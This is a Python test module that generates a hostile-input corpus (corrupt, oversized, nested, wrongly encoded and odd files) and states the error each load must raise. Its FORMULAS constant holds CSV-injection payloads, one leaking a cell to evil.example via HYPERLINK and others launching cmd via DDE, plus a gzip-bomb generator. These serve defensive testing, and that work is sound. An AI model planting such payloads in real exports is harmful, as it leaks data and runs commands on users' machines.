"""The hostile-input corpus: every bad or odd source a stranger might hand Agentwatch.

Each ``Case`` writes its source into a folder (all are generated, the big ones too: the 50 MB
one-line JSON, the 100,000-deep nesting and the gzip bomb never live in the repository) and says
what must happen:

* ``error`` set: loading fails with that ``AgentwatchError`` subclass and a one-line message
  holding each of ``says`` (what is wrong, then what to do);
* ``error`` None: the source is valid but odd and loads; ``quality`` names data-quality findings
  (``queries.data_quality``, the Data page's table) and the rows each must at least report (a
  model that also keeps an event per call counts a far-future call twice); ``skipped`` is the
  reading report's count of records not read, by reason, exactly (where given): a record of a shape no reader
  knows is counted there, never read as zeros.

``python -m tests.hostile.corpus OUTDIR`` writes the whole corpus, to look at or to try by hand.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import sqlite3
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from data_layer.errors import AgentwatchError, BadExport, SourceTooLarge, SourceUnavailable, UnknownSchema
from tests.builders.cylestio_db import CylestioData

DEPTH = 100_000
BIG_LINE_MB = 50
BOMB_LIMIT_MB = 8  # AGENTWATCH_MAX_FILE_MB while the gzip bomb is read
BOMB_EXPANDS_MB = 64

# Peak resident memory allowed while the CLI loads the big cases in a subprocess (MB). The
# README's "Limits and safety" section states the same bounds; measured on the 2-core test
# machine: 0.45-0.9 GB for the 50 MB line, 0.3 GB (the interpreter and its imports) for the
# deep nesting, which is refused after one streaming pass.
PEAK_RSS_MB = {"50 MB one-line JSON": 1536, "JSON nested 100,000 deep": 512}

RECORD = {
    "timestamp": "2025-01-01T00:00:00Z",
    "agent": "planner",
    "model": "gpt-4o",
    "input_tokens": 10,
    "output_tokens": 2,
    "cost_usd": 0.001,
}

# Cells a spreadsheet would run as formulas (CSV injection), as agent, model and session names.
FORMULAS = {
    "agent": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "model": "+cmd|' /C calc'!A0",
    "session": "-2+3+cmd|' /C calc'!A0",
    "tool": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@dataclass(frozen=True)
class Case:
    make: Callable[[Path], Path]
    error: type[AgentwatchError] | None = None
    says: tuple[str, ...] = ()
    quality: dict[str, int] = field(default_factory=dict)
    big: bool = False  # slow to load: only the peak-memory test in a subprocess reads it
    limit_mb: int | None = None  # AGENTWATCH_MAX_FILE_MB the case is read under
    skipped: dict[str, int] | None = None  # the reading report's "skipped", exactly, where given


def _bytes(name: str, data: bytes | Callable[[], bytes]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        (folder / name).write_bytes(data() if callable(data) else data)
        return folder / name

    return make


def _lines(records: list[dict]) -> bytes:
    return b"".join(json.dumps(r).encode() + b"\n" for r in records)


# Records of shapes no reader knows: unrelated keys, with or without a time of their own.
UNRELATED = [{"name": "ann", "city": "paris"}, {"name": "bob", "city": "oslo", "tags": {"vip": True}}]
TIMED_UNRELATED = [
    {"timestamp": "2025-01-01T00:00:00Z", "colour": "red"},
    {"timestamp": "2025-01-01T00:01:00Z", "colour": "blue", "size": 3},
]


def _garbage() -> bytes:
    return random.Random(5).randbytes(40_000)


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("calls.jsonl", _lines([RECORD]))
    return buffer.getvalue()


def _deep_array() -> bytes:
    return b"[" * DEPTH + b"]" * DEPTH


def _deep_lines() -> bytes:
    return _lines([RECORD]) + b'{"a":' * DEPTH + b"1" + b"}" * DEPTH + b"\n"


_BIG_RECORD = json.dumps({**RECORD, "prompt": "Summarise the ticket for the customer."})
BIG_LINE_RECORDS = BIG_LINE_MB * 2**20 // (len(_BIG_RECORD) + 1) // 1000 * 1000


def _big_line(folder: Path) -> Path:
    """One JSON array of ~280,000 LLM calls, 50 MB, without a single newline."""
    path = folder / "one-line.json"
    chunk = ",".join([_BIG_RECORD] * 1000)
    with path.open("w") as f:
        f.write("[")
        for i in range(BIG_LINE_RECORDS // 1000):
            f.write(("," if i else "") + chunk)
        f.write("]")
    return path


def _gzip_bomb(folder: Path) -> Path:
    """A few hundred kB that expand to 64 MB, past the 8 MB limit the case is read under."""
    path = folder / "calls.jsonl.gz"
    zeros = b" " * 2**20
    with gzip.open(path, "wb", compresslevel=9) as f:
        for _ in range(BOMB_EXPANDS_MB):
            f.write(zeros)
    return path


def _sqlite_unknown(folder: Path) -> Path:
    path = folder / "crm.db"
    with sqlite3.connect(path) as con:
        con.execute("create table customers (id integer primary key, name text, email text)")
        con.execute("insert into customers (name, email) values ('Ann', 'ann@example.com')")
    con.close()
    return path


def _sqlite_corrupt() -> bytes:
    return b"SQLite format 3\x00" + b"\xff" * 8192


WRONG_TYPES_CALLS = 30


def _sqlite_wrong_types(folder: Path) -> Path:
    """Cylestio's tables, with text where numbers belong and junk where times belong.

    Half the LLM calls say tokens_in 'lots', cost 'free' and duration a blob; every third event
    has the time 'yesterday'. SQLite stores whatever it is given: the tables are right, the values
    are not. Unreadable values load as missing, and the Data page counts them.
    """
    path = folder / "wrong-types.db"
    CylestioData.generate(seed=3, calls=WRONG_TYPES_CALLS).write_sqlite(path)
    with sqlite3.connect(path) as con:
        con.execute(
            "update llm_calls set tokens_in = 'lots', cost = 'free', duration_ms = x'00ff' where id % 2 = 0"
        )
        con.execute("update events set timestamp = 'yesterday' where id % 3 = 0")
        con.execute("update security_alerts set matched_terms = '{not json'")
    con.close()
    return path


def _wrong_types_without_tokens() -> int:
    data = CylestioData.generate(seed=3, calls=WRONG_TYPES_CALLS)
    return sum(
        1
        for row, (_e, _m, tokens_in, tokens_out, _ms, _c) in enumerate(data.llm_calls, start=1)
        if row % 2 == 0 or tokens_in is None or tokens_out is None
    )


# Odd but valid: far-off times, negative numbers, NaN and infinities.
EXTREME_TIMES = [
    {**RECORD, "timestamp": "9999-12-31T23:00:00Z"},
    {**RECORD, "timestamp": "9999-06-01T00:00:00Z"},
    {**RECORD, "timestamp": "1970-01-01T00:00:00Z"},
    RECORD,
]
NEGATIVES = [
    {**RECORD, "input_tokens": -10},
    {**RECORD, "output_tokens": -5},
    {**RECORD, "cost_usd": -0.5},
    RECORD,
]
NON_FINITE_CSV = (
    "timestamp,agent,model,input_tokens,output_tokens,cost_usd,latency_ms\n"
    "2025-01-01T00:00:00Z,a,gpt-4o,nan,5,nan,nan\n"
    "2025-01-01T00:01:00Z,a,gpt-4o,inf,-inf,inf,-inf\n"
    "2025-01-01T00:02:00Z,a,gpt-4o,10,5,0.01,250\n"
)
NON_FINITE_JSONL = (
    b'{"timestamp":"2025-01-01T00:00:00Z","model":"gpt-4o","input_tokens":NaN,"output_tokens":Infinity,'
    b'"cost_usd":-Infinity}\n'
    b'{"timestamp":"2025-01-01T00:01:00Z","model":"gpt-4o","input_tokens":3,"output_tokens":4,"cost_usd":1}\n'
)


def _formula_csv() -> bytes:
    """Three LLM calls and one tool call whose agent, model, session and tool look like formulas."""
    f = {k: _csv_cell(v) for k, v in FORMULAS.items()}
    lines = ["timestamp,agent,model,session_id,tool_name,input_tokens,output_tokens,cost_usd"]
    lines += [f"2025-01-01T00:0{i}:00Z,{f['agent']},{f['model']},{f['session']},,10,5,0.01" for i in range(3)]
    lines.append(f"2025-01-01T00:05:00Z,{f['agent']},,{f['session']},{f['tool']},,,")
    return ("\n".join(lines) + "\n").encode()


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


CASES: dict[str, Case] = {
    # --- must fail, with a message saying what is wrong and what to do ---------------------
    "empty file": Case(_bytes("events.json", b""), BadExport, ("events.json is empty", "Export the data")),
    "zero-byte SQLite": Case(_bytes("agents.db", b""), BadExport, ("agents.db is empty", "Export the data")),
    "whitespace only": Case(_bytes("blank.json", b"  \n\n \t"), BadExport, ("blank.json", "Upload a JSON")),
    "truncated JSON": Case(
        _bytes("calls.json", json.dumps([RECORD, RECORD]).encode()[:-30]),
        BadExport,
        ("ends in the middle of a record", "export or download it again"),
    ),
    "truncated JSON-lines": Case(
        _bytes("calls.jsonl", json.dumps(RECORD).encode()[:-20]),
        BadExport,
        ("cut off", "export or download it again"),
    ),
    "JSON-lines with a malformed line": Case(
        _bytes("calls.jsonl", _lines([RECORD]) + b"{oops}\n" + _lines([RECORD])),
        BadExport,
        ("Cannot read calls.jsonl as JSONL", "export it again"),
    ),
    "binary garbage named .json": Case(
        _bytes("export.json", _garbage), BadExport, ("binary data", "Upload the export file")
    ),
    "zip archive named .json": Case(_bytes("export.json", _zip), BadExport, ("zip archive", "Unzip it")),
    "corrupt gzip": Case(
        _bytes("calls.jsonl.gz", b"\x1f\x8b" + b"junk" * 64), BadExport, ("not a readable gzip", "Compress")
    ),
    "corrupt Parquet": Case(
        _bytes("calls.parquet", b"PAR1" + b"\x01garbage" * 64), BadExport, ("PARQUET", "export it again")
    ),
    "UTF-16 file": Case(
        _bytes("export.json", json.dumps([RECORD]).encode("utf-16")),
        BadExport,
        ("UTF-16", "Save it as UTF-8"),
    ),
    "UTF-16 without a byte-order mark": Case(
        _bytes("export.json", json.dumps([RECORD]).encode("utf-16-le")),
        BadExport,
        ("UTF-16", "Save it as UTF-8"),
    ),
    "Latin-1 file": Case(
        _bytes("export.csv", "timestamp,agent,model\n2025-01-01T00:00:00Z,café,gpt-4o\n".encode("latin-1")),
        BadExport,
        ("not UTF-8", "Save it as UTF-8"),
    ),
    "JSON nested 100,000 deep": Case(
        _bytes("deep.json", _deep_array), BadExport, ("more than 100 levels deep", "Export flat records")
    ),
    "JSON-lines nested 100,000 deep": Case(
        _bytes("deep.jsonl", _deep_lines), BadExport, ("more than 100 levels deep", "Export flat records")
    ),
    "CSV with unrelated columns": Case(
        _bytes("people.csv", b"name,city,age\nann,paris,31\nbob,oslo,45\n"),
        UnknownSchema,
        ("columns found: name, city, age", "Export a time column"),
    ),
    "JSON-lines of objects with unrelated keys": Case(
        _bytes("people.jsonl", _lines(UNRELATED)),
        UnknownSchema,
        ("columns found: name, city", "Export a time column"),
    ),
    "JSON array of objects with unrelated keys": Case(
        _bytes("people.json", json.dumps(UNRELATED).encode()),
        UnknownSchema,
        ("columns found: name, city", "Export a time column"),
    ),
    "JSON-lines whose only known field is a time": Case(
        _bytes("colours.jsonl", _lines(TIMED_UNRELATED)),
        UnknownSchema,
        ("columns found: timestamp, colour", "besides the time none", "Export a time column"),
    ),
    "CSV with a header and no rows": Case(
        _bytes("calls.csv", b"timestamp,model,input_tokens\n"), BadExport, ("holds no records", "Export")
    ),
    "JSON of the wrong shape": Case(
        _bytes("names.json", b'["planner", "writer"]'), UnknownSchema, ("names.json", "Export a time column")
    ),
    "gzip expanding past the limit": Case(
        _gzip_bomb,
        SourceTooLarge,
        ("expands past the 8 MB limit", "Upload a smaller"),
        limit_mb=BOMB_LIMIT_MB,
    ),
    "SQLite file with none of the known tables": Case(
        _sqlite_unknown, UnknownSchema, ("crm.db has tables customers", "Export file needs")
    ),
    "corrupt SQLite file": Case(
        _bytes("agents.db", _sqlite_corrupt),
        SourceUnavailable,
        ("not a database", "readable SQLite database"),
    ),
    # --- valid but odd: loads, and the Data page's data-quality table says what is odd ------
    "timestamps in the year 9999 and 1970": Case(
        _bytes("times.jsonl", _lines(EXTREME_TIMES)), quality={"Timestamps in the future": 2}, skipped={}
    ),
    "negative tokens and costs": Case(
        _bytes("negative.jsonl", _lines(NEGATIVES)),
        quality={"LLM calls with negative tokens or cost": 3},
        skipped={},
    ),
    "NaN and infinite values in a CSV": Case(
        _bytes("non-finite.csv", NON_FINITE_CSV.encode()),
        quality={"LLM calls without token counts": 2, "LLM calls without a recorded cost": 2},
    ),
    "NaN and Infinity literals in JSON-lines": Case(
        _bytes("non-finite.jsonl", NON_FINITE_JSONL),
        quality={"LLM calls without token counts": 1, "LLM calls without a recorded cost": 1},
    ),
    "SQLite file with the right tables and wrong column types": Case(
        _sqlite_wrong_types, quality={"LLM calls without token counts": _wrong_types_without_tokens()}
    ),
    "CSV whose cells start with = + - @": Case(_bytes("formulas.csv", _formula_csv)),
    "JSON-lines whose last line is cut": Case(
        _bytes("live.jsonl", _lines([RECORD, RECORD]) + json.dumps(RECORD).encode()[:25])
    ),
    "JSON-lines mixing calls with records of unrelated keys": Case(
        _bytes("mixed.jsonl", _lines([RECORD, UNRELATED[0], RECORD, UNRELATED[1]])),
        skipped={"no readable time, and not a call": 2},
    ),
    "JSON-lines mixing calls with timed records of unrelated keys": Case(
        _bytes("mixed-timed.jsonl", _lines([RECORD, *TIMED_UNRELATED, RECORD])),
        skipped={"a time and no other field the reader knows": 2},
    ),
    "50 MB one-line JSON": Case(_big_line, big=True),
}


def write_all(folder: Path) -> dict[str, Path]:
    """Write every case under ``folder`` (one subfolder each); returns the path of each source."""
    written = {}
    for i, (name, case) in enumerate(CASES.items()):
        sub = folder / f"{i:02d}"
        sub.mkdir(parents=True, exist_ok=True)
        written[name] = case.make(sub)
    return written


if __name__ == "__main__":
    for name, path in write_all(Path(sys.argv[1])).items():
        print(f"{path}\t{name}")
